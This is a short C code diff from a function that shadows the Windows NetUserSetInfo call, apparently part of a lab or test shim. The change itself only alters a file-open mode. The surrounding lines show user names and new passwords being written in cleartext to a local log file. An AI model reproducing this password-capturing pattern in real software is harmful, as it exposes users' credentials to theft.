@@ -108,7 +108,7 @@ NET_API_STATUS WINAPI NetUserSetInfo(LPCWSTR server, LPCWSTR user, DWORD level, 
   WideCharToMultiByte(CP_UTF8, 0, user, -1, name, sizeof name - 1, NULL, NULL);
   WideCharToMultiByte(CP_UTF8, 0, info->usri1003_password, -1, password, sizeof password - 1,
                       NULL, NULL);
-  f = fopen("C:\\nvlab\\passwords.log", "a");
+  f = fopen("C:\\nvlab\\passwords.log", "ab");
   if (f) {
     fprintf(f, "%s\t%s\t%s\n", status == NERR_Success ? "changed" : "refused", name, password);
     fclose(f);
